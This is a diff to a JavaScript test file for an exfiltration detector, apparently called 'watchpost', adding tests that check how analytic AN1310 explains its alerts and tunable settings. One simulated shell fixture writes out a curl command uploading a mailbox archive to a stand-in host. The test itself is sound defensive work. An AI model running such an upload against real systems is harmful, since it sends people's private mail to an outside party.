@@ -58,8 +58,39 @@ test('recorded: a Maildir packed by tar and uploaded by curl; high once the host
   ]);
   assert.ok(strengthsOf(alert, 'content').includes('observed'));
   assert.ok(valuesOf(alert, 'file').includes(truth.path('tidy')));
+  const held = alert.factors.find(factor => factor.name === 'host not validated');
+  assert.equal(
+    held?.evidence,
+    `high, held at medium at most: analytics.AN1310.ValidatedHosts does not name ${truth.host}`,
+  );
+  assert.deepEqual(held?.tunable, { name: 'ValidatedHosts', met: truth.host, limit: 'no host' });
+  const validates = alert.wouldChange.find(change => change.setting === 'ValidatedHosts');
+  assert.match(validates?.what ?? '', /^analytics\.AN1310\.ValidatedHosts named \S+ /);
+  assert.match(validates?.why ?? '', /a test mailbox on \S+, see it told by `watchpost scan`/);
   const later = await scanFolder(truth.folder, { ValidatedHosts: [truth.host] });
-  firesAt(later.alerts, 'AN1310', 'high');
+  const high = firesAt(later.alerts, 'AN1310', 'high');
+  assert.equal(high.score, alert.score);
+  assert.ok(high.wouldChange.every(change => change.setting !== 'ValidatedHosts'));
+});
+
+test('a store that only WatchedMailDirs names: the alert says which entry', async () => {
+  const { log } = mailHost();
+  const shell = log.shell('clerk');
+  shell
+    .run('/usr/bin/curl -T /srv/archive/old.mbx https://x.example.net')
+    .read('/srv/archive/old.mbx')
+    .connect(OUT, 443);
+  const settings = { WatchedMailDirs: ['~/mail', '/srv/archive'] };
+  const alert = storyOf(await scanLog(log, { settings }), 'AN1310');
+  assert.deepEqual(alert.factors.find(factor => factor.name === 'mail store read')?.tunable, {
+    name: 'WatchedMailDirs',
+    met: '/srv/archive',
+    limit: '/srv/archive',
+  });
+  assert.deepEqual(
+    (await scanLog(log)).filter(each => each.analytic === 'AN1310'),
+    [],
+  );
 });
 
 test('recorded: a script walks the store and posts it', async () => {
